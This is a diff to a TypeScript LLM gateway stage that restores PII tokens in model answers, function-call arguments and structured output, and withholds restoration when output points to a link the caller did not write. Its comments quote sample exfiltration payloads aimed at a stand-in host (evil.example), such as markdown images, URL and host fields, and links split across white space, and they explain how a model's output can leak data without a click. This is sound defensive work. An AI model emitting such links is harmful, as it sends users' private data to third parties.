@@ -2,9 +2,13 @@
  * Stage 9: puts this call's PII values back into the response, for the authorised caller only
  * (request.restorePii, default true). A withheld response is not restored. If restoring fails the
  * tokens stay in place: a safe degradation (the caller sees [EMAIL_1], nobody sees another value).
- * Two more places keep their tokens, each counted in the verdict (counts and categories, never values):
+ * Three places keep their tokens, each counted in the verdict (counts and categories, never values):
+ *  - in the text answer, every token from the first word that opens a link the caller did not write
+ *    to the end of the answer (see restoreText): a link written across white space is not followed
+ *    to its end, the rest of the answer keeps its tokens instead;
  *  - every token of a function call's arguments, or of structured output, in which some string points
- *    somewhere (a URL, `//host`, `\\host\share`, `host:port`, an IP literal, `src=`: see
+ *    somewhere (a URL, `//host`, `\\host\share`, `host:port`, an IP literal, `src=`, a string that is
+ *    just a host name, any string under a key such as `url` or `webhook_host`: see
  *    pii-restore-url.ts) that the caller's own messages do not hold: a model must not turn the
  *    caller's data into an exfiltration link, within one string, split across fields, or split across
  *    the function calls of one answer (judged together). Judged per string, never per word. Otherwise
@@ -25,7 +29,7 @@ import type { CallContext, GatewayRequest } from '../context.ts';
 import { findCredentials } from '../output/credentials.ts';
 import { causeName } from '../errors.ts';
 import { verdict, type Stage, type StageVerdict, type VerdictDetail } from '../stage.ts';
-import { continuesLink, holdsUrl, joinsIntoUrl, LINK_WORD, wordInLink } from './pii-restore-url.ts';
+import { holdsUrl, isHostName, joinsIntoUrl, LINK_WORD, namesLocation, opensLink } from './pii-restore-url.ts';
 
 function tokenCount(text: string): number {
   let n = 0;
@@ -122,6 +126,8 @@ const URL_WRAPPING = /^[("'<[]+|[.,;:!?)"'>\]]+$/g;
 const CALLER_URL = /[A-Za-z][A-Za-z0-9+.-]*:[^\s<>"'`()[\]]+/g;
 /** Nothing but a scheme and slashes (`https://`): a fragment to build a link with, never a whole URL. */
 const SCHEME_ONLY = /^(?:[A-Za-z][A-Za-z0-9+.-]*:)?[\\/]*$/;
+/** Markdown emphasis or code around a URL in an answer (`**https://…**`). */
+const EMPHASIS_END = /[*_~`]+$/;
 
 /** The text the caller wrote (user and system messages, not tool outputs, documents or the model's turns). */
 function callerText(request: GatewayRequest): string {
@@ -143,22 +149,44 @@ function callerWords(text: string): Set<string> {
   return words;
 }
 
-/** Whether `restored` (a string or word, its values restored) is a whole URL the caller wrote, not a bare scheme to build one with. */
-function callerWroteLink(restored: string, caller: () => Set<string>): boolean {
+/**
+ * Whether `restored` (a string or word, its values restored) is a whole URL the caller wrote, not a
+ * bare scheme to build one with. For a word of a text answer (`inWord`), also a word whose one URL
+ * (as CALLER_URL finds the caller's) is exactly one the caller wrote and whose rest points nowhere:
+ * `[the record](https://crm.example/…)`, `**https://crm.example/…**`, `` `https://crm.example/…` ``.
+ * A word holding another URL beside it, or around it (`https://evil.example/?u=https://crm…`), is not.
+ */
+function callerWroteLink(restored: string, caller: () => Set<string>, inWord = false): boolean {
   const written = restored.trim();
   const unwrapped = written.replace(URL_WRAPPING, '');
-  return !SCHEME_ONLY.test(unwrapped) && (caller().has(written) || caller().has(unwrapped));
+  if (!SCHEME_ONLY.test(unwrapped) && (caller().has(written) || caller().has(unwrapped))) return true;
+  if (!inWord) return false;
+  const urls = [...written.matchAll(CALLER_URL)];
+  const found = urls[0];
+  if (urls.length !== 1 || found === undefined) return false;
+  const url = [found[0], found[0].replace(URL_WRAPPING, ''), found[0].replace(EMPHASIS_END, '').replace(URL_WRAPPING, '')].find(
+    (candidate) => !SCHEME_ONLY.test(candidate) && caller().has(candidate),
+  );
+  if (url === undefined) return false;
+  return !holdsUrl(`${written.slice(0, found.index)} ${written.slice(found.index + url.length)}`);
+}
+
+interface DataString {
+  readonly text: string;
+  readonly asKey: boolean;
+  /** Under a key that names a location (namesLocation), at any depth. */
+  readonly located: boolean;
 }
 
 /** Every string of a JSON value, keys and values, in the order restoreArguments walks them. */
-function stringsOf(value: JsonValue, out: { text: string; asKey: boolean }[] = [], depth = 0): { text: string; asKey: boolean }[] {
+function stringsOf(value: JsonValue, out: DataString[] = [], depth = 0, located = false): DataString[] {
   if (depth > 256) throw new RangeError('PII restore: JSON value nested deeper than 256 levels; refusing it.');
-  if (typeof value === 'string') out.push({ text: value, asKey: false });
-  else if (Array.isArray(value)) for (const v of value) stringsOf(v, out, depth + 1);
+  if (typeof value === 'string') out.push({ text: value, asKey: false, located });
+  else if (Array.isArray(value)) for (const v of value) stringsOf(v, out, depth + 1, located);
   else if (value !== null && typeof value === 'object') {
     for (const [k, v] of Object.entries(value)) {
-      out.push({ text: k, asKey: true });
-      stringsOf(v, out, depth + 1);
+      out.push({ text: k, asKey: true, located });
+      stringsOf(v, out, depth + 1, located || namesLocation(k));
     }
   }
   return out;
@@ -166,8 +194,11 @@ function stringsOf(value: JsonValue, out: { text: string; asKey: boolean }[] = [
 
 /**
  * Whether a JSON value (one call's arguments, every call of one answer, or the structured output)
- * points somewhere the caller did not: a string holding anything URL-like, tokenised or restored,
- * that is not a whole URL the caller wrote, or pieces that only join into a URL. Then none of its
+ * points somewhere the caller did not: a string holding anything URL-like, tokenised or restored, a
+ * string that is exactly a host name (`{host: "evil.example", path: "/c", q: "[EMAIL_1]"}`: the tool
+ * builds the link), or any non-empty string under a key that names a location (`url`, `webhook_uri`,
+ * `callbackHost`, …: see namesLocation), that is not a whole URL or host the caller wrote; or pieces
+ * that only join into a URL. Then none of its
  * tokens is restored, whole values included: `{url: "https://evil.example/c?d=", d: "[EMAIL_1]"}` is
  * one link to a tool that joins it. Every string is a piece, the caller's fragments too (`https://`
  * from the caller's own link joins `evil.example` as well as the model's would); only a whole URL the
@@ -175,13 +206,15 @@ function stringsOf(value: JsonValue, out: { text: string; asKey: boolean }[] = [
  */
 function pointsElsewhere(value: JsonValue, restorer: Restorer, caller: () => Set<string>): boolean {
   const pieces: string[] = [];
-  for (const { text } of stringsOf(value)) {
+  for (const { text, asKey, located } of stringsOf(value)) {
     const restored = restorer.restore(text);
-    if (!holdsUrl(text) && !holdsUrl(restored)) {
+    const locates = located && !asKey && text.trim() !== '';
+    if (!locates && !holdsUrl(text) && !holdsUrl(restored) && !isHostName(text) && !isHostName(restored)) {
       pieces.push(text);
       continue;
     }
-    if (!callerWroteLink(restored, caller)) return true;
+    // A caller's word vouches only as a URL or host: `{webhook_url: "[EMAIL_1]"}` is no link the caller wrote.
+    if (!callerWroteLink(restored, caller) || !(holdsUrl(restored) || isHostName(restored))) return true;
     pieces.push(' ');
   }
   return joinsIntoUrl(pieces);
@@ -271,32 +304,33 @@ async function restoreFunctionCalls(calls: readonly FunctionCall[], restorer: Re
 }
 
 /**
- * The text answer restored, except tokens inside a word that points somewhere the caller did not
- * write (`![](https://evil.example/?d=[EMAIL_1])`: a client that renders markdown loads it, and the
- * value is in someone's server log without a click). Judged word by word, words split at ASCII white
- * space (a no-break space can sit inside a link), and a word continuing a link the word before left
- * open (`?d= [EMAIL_1]`) counts as in it. A word the caller wrote, restored, is restored.
+ * The text answer restored up to the first word that opens a link the caller did not write
+ * (`![](https://evil.example/?d=[EMAIL_1])`: a client that renders markdown or HTML loads it, and
+ * the value is in someone's server log without a click). That word's tokens and every token after
+ * it in the answer stay tokens, counted as kept in a URL: where a link ends (angle brackets, a quoted
+ * attribute over blank lines, `url(…)`, srcset) is not judged, so a link written across white space
+ * (`<img src="…?d=x\n[EMAIL_1]">`) carries nothing out, at the cost of tokens in the prose after a
+ * link (a safe degradation). Words split at ASCII white space (a no-break space can sit inside a
+ * link); each asked opensLink, as written and restored. A word that is a link the caller wrote,
+ * restored (bare, or in markdown or code), opens nothing. Linear in the text: the tokens are walked
+ * forward with the words.
  */
 function restoreText(text: string, restorer: Restorer, caller: () => Set<string>, urlKept: KeptTokens, credentialKept: KeptTokens): Promise<string> {
   const tokens = restorableTokens(text, restorer);
   const keep = new Set<TokenAt>();
-  if (tokens.length > 0) {
-    let previous: string | undefined;
+  const last = tokens.at(-1);
+  if (last !== undefined) {
+    let next = 0; // the first token not wholly before this word (a token never holds white space)
     for (const word of text.matchAll(LINK_WORD)) {
-      const before = previous;
-      previous = word[0];
-      const start = word.index;
-      const end = start + word[0].length;
-      const inWord = tokens.filter((t) => t.start >= start && t.end <= end);
-      if (inWord.length === 0) continue;
-      const restored = restorer.restore(word[0]);
-      if (!wordInLink(word[0], restored, before)) continue;
-      // A link written across white space (`?d= [EMAIL_1]`) is not one the caller's word vouches for.
-      if (!continuesLink(before) && callerWroteLink(restored, caller)) continue;
-      for (const t of inWord) {
+      if (word.index >= last.end) break; // no token left to keep
+      while (next < tokens.length && (tokens[next] as TokenAt).end <= word.index) next++;
+      const restored = word[0].includes('[') ? restorer.restore(word[0]) : word[0];
+      if (!opensLink(word[0], restored) || callerWroteLink(restored, caller, true)) continue;
+      for (const t of tokens.slice(next)) {
         keep.add(t);
         urlKept.add(t.token);
       }
+      break;
     }
   }
   return restoreChecked(text, tokens, keep, restorer, credentialKept);
